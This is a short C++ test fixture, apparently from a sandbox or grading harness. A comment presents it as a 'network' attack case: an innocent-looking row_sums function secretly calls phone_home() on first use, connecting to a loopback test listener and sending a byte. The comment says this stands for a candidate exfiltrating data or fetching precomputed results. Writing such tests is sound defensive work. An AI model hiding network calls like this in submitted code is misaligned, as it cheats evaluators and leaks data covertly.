// Attack: network. Connects to 127.0.0.1:@PORT@ (a listener the test runs) and sends a byte, as
// a candidate would to exfiltrate what it read or fetch precomputed results.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdlib>

namespace {

void phone_home() {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return;
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<unsigned short>(std::atoi("@PORT@")));
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0) (void)!send(fd, "k", 1, 0);
  close(fd);
}

}  // namespace

void row_sums(const float* x, float* y, long rows, long cols) {
  static bool done = (phone_home(), true);
  (void)done;
  for (long r = 0; r < rows; ++r) {
    float sum = 0.0f;
    for (long c = 0; c < cols; ++c) sum += x[r * cols + c];
    y[r] = sum;
  }
}
